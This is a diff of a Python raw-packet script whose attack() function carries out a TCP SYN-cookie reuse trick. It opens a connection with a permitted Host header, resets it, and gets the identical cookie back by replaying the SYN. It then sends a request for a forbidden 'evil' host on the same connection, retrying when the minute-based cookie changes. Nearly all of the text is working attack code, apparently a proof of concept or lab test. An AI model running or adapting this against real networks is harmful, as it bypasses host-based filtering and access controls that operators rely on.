@@ -25,24 +25,36 @@ src, dst, good, evil = sys.argv[1:5]
 t = Raw(src, dst, 80, random.randint(42000, 60000))
 REQ1 = ("GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % good).encode()
 REQ2 = ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % evil).encode()
-X = random.randint(1 << 20, 1 << 31)
-C = t.synack(X)  # 1
-if C is None:
-    print("error no SYN-ACK")
-    sys.exit(0)
-t.send(X + 1, C + 1, ACK | PSH, REQ1)  # 2
-got = t.until(lambda p: b"hello" in p["data"])
-if not got or b"hello %s" % good.encode() not in got[-1]["data"]:
-    print("error REQ1 not answered")
-    sys.exit(0)
-t.send(X + 1 + len(REQ1), 0, RST)  # 3
-if t.synack(X) != C:  # 4
-    print("error no second SYN-ACK with the same cookie")
-    sys.exit(0)
-t.send(X + 1, C + 1, ACK | PSH, REQ2)  # 5
-got = t.until(lambda p: p["flags"] & (FIN | RST) or b"hello" in p["data"])
-if any(p["flags"] & RST for p in got):
-    print("error reset")
-    sys.exit(0)
-text = b"".join(p["data"] for p in got).decode(errors="replace").strip()
-print(text.splitlines()[-1] if text else "error no answer")
+
+
+def attack():
+    """One try: the answer's last line or `error ...`; None if the cookie changed between the
+    two SYNs (Linux's cookies count minutes: a minute's turn between them)."""
+    t.sport = random.randint(42000, 60000)
+    X = random.randint(1 << 20, 1 << 31)
+    C = t.synack(X)  # 1
+    if C is None:
+        return "error no SYN-ACK"
+    t.send(X + 1, C + 1, ACK | PSH, REQ1)  # 2
+    got = t.until(lambda p: b"hello" in p["data"])
+    if not got or b"hello %s" % good.encode() not in got[-1]["data"]:
+        return "error REQ1 not answered"
+    t.send(X + 1 + len(REQ1), 0, RST)  # 3
+    C2 = t.synack(X)  # 4
+    if C2 is None:
+        return "error no second SYN-ACK"
+    if C2 != C:
+        return None
+    t.send(X + 1, C + 1, ACK | PSH, REQ2)  # 5
+    got = t.until(lambda p: p["flags"] & (FIN | RST) or b"hello" in p["data"])
+    if any(p["flags"] & RST for p in got):
+        return "error reset"
+    text = b"".join(p["data"] for p in got).decode(errors="replace").strip()
+    return text.splitlines()[-1] if text else "error no answer"
+
+
+for _ in range(3):  # a minute's turn twice in three tries takes minutes
+    out = attack()
+    if out is not None:
+        break
+print(out if out is not None else "error the cookie changed each time")
